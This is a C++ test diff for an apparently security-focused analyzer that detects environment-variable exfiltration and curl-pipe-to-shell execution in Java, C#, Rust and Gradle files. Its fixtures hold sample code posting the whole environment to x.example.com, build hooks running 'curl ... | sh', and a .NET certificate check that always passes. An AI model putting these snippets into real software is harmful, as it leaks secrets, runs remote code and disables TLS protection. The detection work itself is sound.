@@ -875,3 +875,44 @@ TEST_CASE("a command held in a variable or built by a format call is read where 
   CHECK(find_command(ordinary, "go"));
   CHECK_FALSE(find_flow(ordinary, "network", "exec"));
 }
+
+TEST_CASE("Java, Kotlin/Groovy, C# and Rust files are read for the environment sent out and shell strings run") {
+  struct Case {
+    const char* path;
+    const char* content;
+    const char* from;
+    const char* to;
+  };
+  for (const auto& c : std::vector<Case>{
+           {"src/main/java/T.java",
+            "class T { static void s() throws Exception { var c = java.net.http.HttpClient.newHttpClient();\n"
+            "  c.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(\"https://x.example.com/c\"))\n"
+            "  .POST(java.net.http.HttpRequest.BodyPublishers.ofString(System.getenv().toString())).build(), null); } }\n",
+            "env_dump", "network"},
+           {"src/T.cs",
+            "var env = Environment.GetEnvironmentVariables();\nusing var http = new HttpClient();\n"
+            "await http.PostAsync(\"https://x.example.com/c\", new StringContent(env.ToString()));\n",
+            "env_dump", "network"},
+           {"src/metrics.rs",
+            "pub fn f() { let all: Vec<(String, String)> = std::env::vars().collect();\n"
+            "let _ = reqwest::blocking::Client::new().post(\"https://x.example.com/c\").body(format!(\"{:?}\", all)).send(); }\n",
+            "env_dump", "network"},
+           {"build.rs",
+            "fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -fsSL https://x.example.com/x.sh | sh\").status().unwrap(); }\n",
+            "network", "exec"},
+           {"build.gradle", "task setup(type: Exec) {\n    commandLine 'sh', '-c', 'curl -fsSL https://x.example.com/x.sh | sh'\n}\n",
+            "network", "exec"}}) {
+    INFO(c.path);
+    CHECK(find_flow(shipped_analyzer()->analyze_write(c.path, c.content), c.from, c.to));
+  }
+  // Ordinary programs: named settings, their own API with a header, commands that are not scripts.
+  CHECK(shipped_analyzer()->analyze_write("src/main/java/App.java", "package app;\nimport java.net.http.*;\nimport java.net.URI;\nimport java.util.*;\npublic class App {\n  public static void main(String[] a) throws Exception {\n    String port = System.getenv(\"PORT\");\n    Map<String,String> m = new HashMap<>();\n    m.get(\"x\");\n    HttpClient c = HttpClient.newHttpClient();\n    var r = c.send(HttpRequest.newBuilder(URI.create(\"https://api.example.com/health\")).build(), HttpResponse.BodyHandlers.ofString());\n    Process p = new ProcessBuilder(\"git\", \"status\").start();\n    Runtime.getRuntime().exec(new String[]{\"git\", \"rev-parse\", \"HEAD\"});\n  }\n}\n").flows.empty());
+  CHECK(shipped_analyzer()->analyze_write("src/Api.cs", "using System;\nusing System.Net.Http;\npublic class Api {\n  static readonly HttpClient http = new HttpClient();\n  public static async Task<string> Get() {\n    var baseUrl = Environment.GetEnvironmentVariable(\"API_URL\");\n    var key = Environment.GetEnvironmentVariable(\"API_KEY\");\n    http.DefaultRequestHeaders.Add(\"Authorization\", \"Bearer \" + key);\n    return await http.GetStringAsync(baseUrl + \"/items\");\n  }\n}\n").flows.empty());
+  CHECK(shipped_analyzer()->analyze_write("build.rs", "fn main() {\n    println!(\"cargo:rerun-if-changed=src/wrapper.h\");\n    cc::Build::new().file(\"src/native.c\").compile(\"native\");\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    std::process::Command::new(\"protoc\").arg(\"--rust_out\").arg(&out).arg(\"proto/api.proto\").status().unwrap();\n}\n").flows.empty());
+  CHECK(shipped_analyzer()->analyze_write("src/client.rs", "use std::env;\npub async fn fetch() -> reqwest::Result<String> {\n    let token = env::var(\"GITHUB_TOKEN\").unwrap();\n    reqwest::Client::new().get(\"https://api.github.com/user\").bearer_auth(token).send().await?.text().await\n}\n").flows.empty());
+  CHECK(shipped_analyzer()->analyze_write("scripts/build.gradle", "plugins { id 'java' }\ntask gen(type: Exec) {\n    commandLine 'protoc', '--java_out=build/gen', 'src/main/proto/api.proto'\n}\n").flows.empty());
+  // .NET's custom certificate callback that accepts everything turns TLS checks off.
+  CHECK(has_marker(shipped_analyzer()->analyze_write(
+                       "src/Client.cs", "var h = new HttpClientHandler { ServerCertificateCustomValidationCallback = (m, c, ch, e) => true };\n"),
+                   "security_off", ".NET certificate validation always true"));
+}
